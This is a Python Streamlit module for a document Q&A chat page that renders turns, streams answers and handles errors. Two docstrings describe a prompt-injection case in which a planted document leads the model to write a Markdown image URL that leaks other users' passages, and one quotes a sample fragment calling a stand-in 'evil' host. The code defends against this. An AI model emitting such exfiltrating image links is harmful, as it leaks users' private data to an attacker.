"""The conversation: the turns so far, the question box, and the answer streamed into the page as it comes; each
answer is saved to the user's conversation and can be rated (ui/conversations.py)."""

from __future__ import annotations

import itertools
import logging
from collections.abc import Collection, Iterator
from typing import Any

import streamlit as st

from rag.conversations import ConversationStore
from rag.errors import RagError
from rag.generation.chain import RAG
from rag.llm.failures import EndpointError
from rag.llm.local.supervisor import notice_for
from rag.security.auth import Identity, is_admin
from rag.security.markdown import inert_markdown, inert_stream
from rag.urls import scrub
from ui import conversations
from ui.evidence import answer_footer, render_sources
from ui.state import Shared, Turn

log = logging.getLogger("rag.ui")


def md(text: str, link_hosts: Collection[str] = ()) -> str:
    """Model output is rendered as Markdown, made inert first: a planted document can make the model write an
    image whose URL carries other users' passages, which the browser would fetch unasked (hardening issue, hole
    6). That also escapes "$", which would start LaTeX ("$200 ... $300" as a formula)."""
    return inert_markdown(text, link_hosts)


def llm_notice(rag: RAG) -> str | None:
    """Why the demo model is not answering, when its supervisor (``rag llm serve``) says so."""
    return notice_for(rag.settings.data_dir, [e.base_url for e in rag.settings.llm_endpoint_list()])


def page(rag: RAG, shared: Shared, identity: Identity, turns: list[Turn], store: ConversationStore | None) -> None:
    st.header("Ask the documents")
    if not turns:
        _welcome(shared, identity)
    for i, turn in enumerate(turns):
        render_turn(rag, turn, i, store, identity)
        if turn.role == "user" and (i + 1 == len(turns) or turns[i + 1].role == "user"):
            # A click or the next question while an answer streams starts a new run and stops the one answering
            # (Streamlit's fast reruns) before it keeps a turn. Its question would sit there unanswered, unexplained.
            with st.chat_message("assistant"):
                st.warning(INTERRUPTED, icon=":material/pause_circle:")

    if (question := st.chat_input("Ask a question about the documents")) is None:
        return
    question = question.strip()
    if not question:  # Enter on blanks: nothing to answer, and no empty bubble in the conversation
        st.toast("Type a question first, then press Enter.", icon=":material/edit:")
        return
    turns.append(Turn("user", question))
    with st.chat_message("user"):
        st.markdown(md(question, rag.settings.ui_link_hosts))
    with st.chat_message("assistant"):
        turn = ask(rag, question, turns[:-1], identity)
        turns.append(turn)
        conversations.save(store, identity, turn)
        conversations.feedback_box(store, identity, turn)


def _welcome(shared: Shared, identity: Identity) -> None:
    documents, _ = shared.readable_counts(identity)
    if documents:
        st.caption(f"{documents} documents are searchable. Answers cite their sources as [1], [2]…; "
                   "open a source to read the passage and download the file.")
    elif identity.unrestricted or not shared.index()["documents"]:
        st.info("The index is empty: add documents in the sidebar, or run `rag ingest PATH`.")
    else:
        st.info("No document is shared with your groups yet: add your own in the sidebar, or ask an "
                "administrator to give you access.")


def render_turn(rag: RAG, turn: Turn, i: int, store: ConversationStore | None = None,
                identity: Identity | None = None) -> None:
    with st.chat_message(turn.role):
        if turn.error:
            st.error(turn.error, icon=":material/error:")
            return
        st.markdown(md(turn.content, rag.settings.ui_link_hosts))
        if turn.answer is not None:
            answer_footer(turn.answer, turn.threshold,
                          tunable=identity is None or is_admin(identity, rag.settings.admin_group))
            render_sources(rag, turn.answer, key=conversations.answer_key(i))
            if identity is not None:
                conversations.feedback_box(store, identity, turn)


INTERRUPTED = ("This answer was interrupted: the page was used (a click, or the next question) while it was being "
               "written. Ask the question again for the whole answer, and wait for it to finish before clicking.")
LLM_DOWN = ("The language model is not answering right now. Try again in a minute; if it keeps failing, tell "
            "your administrator.")


def failure_text(exc: RagError, identity: Identity, admin_group: str) -> str:
    """What a failed answer says. The endpoint's own message names the server's internal address and the setting
    to change: the operator's to read (the sidebar keeps both from employees too), not something an employee
    can act on; they get what to do, and the details go to the UI's log."""
    if isinstance(exc, EndpointError) and not is_admin(identity, admin_group):
        log.error("answering for %s: %s", identity.name, exc)
        return LLM_DOWN
    return str(exc)


def _history(turns: list[Turn]) -> list[tuple[str, str]]:
    """Completed question/answer pairs; failed turns are not part of the conversation."""
    out: list[tuple[str, str]] = []
    for q, a in itertools.pairwise(turns):
        if q.role == "user" and a.role == "assistant" and a.answer is not None:
            out += [("user", q.content), ("assistant", a.answer.text)]
    return out


def _show_stream(pieces: Iterator[str], waiting: Any, link_hosts: Collection[str]) -> None:
    """Render the answer as it grows: the whole text so far each time, made inert as a whole, since
    "![x](http://evil/?d=..." arrives in pieces none of which is an image on its own."""
    out = st.empty()
    for i, shown in enumerate(inert_stream(pieces, link_hosts)):
        if not i:
            waiting.empty()
        out.markdown(shown)


def ask(rag: RAG, question: str, turns: list[Turn], identity: Identity) -> Turn:
    """Stream one answer into the open assistant message; failures become a message, never a traceback."""
    history = _history(turns)
    waiting = st.empty()
    waiting.caption("Searching the documents, then waiting for the model's first words…")
    try:
        stream = rag.stream(question, history, user=identity)
        _show_stream(iter(stream), waiting, rag.settings.ui_link_hosts)
        answer = stream.answer
        assert answer is not None
    except RagError as exc:
        waiting.empty()
        # A crashed demo model being restarted is a wait, not a failure: say that rather than "connection refused".
        msg = llm_notice(rag) or failure_text(exc, identity, rag.settings.admin_group)
        st.error(msg, icon=":material/error:")
        return Turn("assistant", "", error=msg)
    except Exception as exc:  # a bug, not a user error: full details go to the server log only
        log.exception("answering %r failed", question)
        waiting.empty()
        msg = f"Something went wrong ({type(exc).__name__}: {scrub(str(exc))}). The details are in the UI's log."
        st.error(msg, icon=":material/error:")
        return Turn("assistant", "", error=msg)
    waiting.empty()
    turn = Turn("assistant", answer.text, answer=answer, threshold=rag.settings.min_score)
    answer_footer(answer, turn.threshold, tunable=is_admin(identity, rag.settings.admin_group))
    render_sources(rag, answer, key=conversations.answer_key(len(turns) + 1))
    return turn
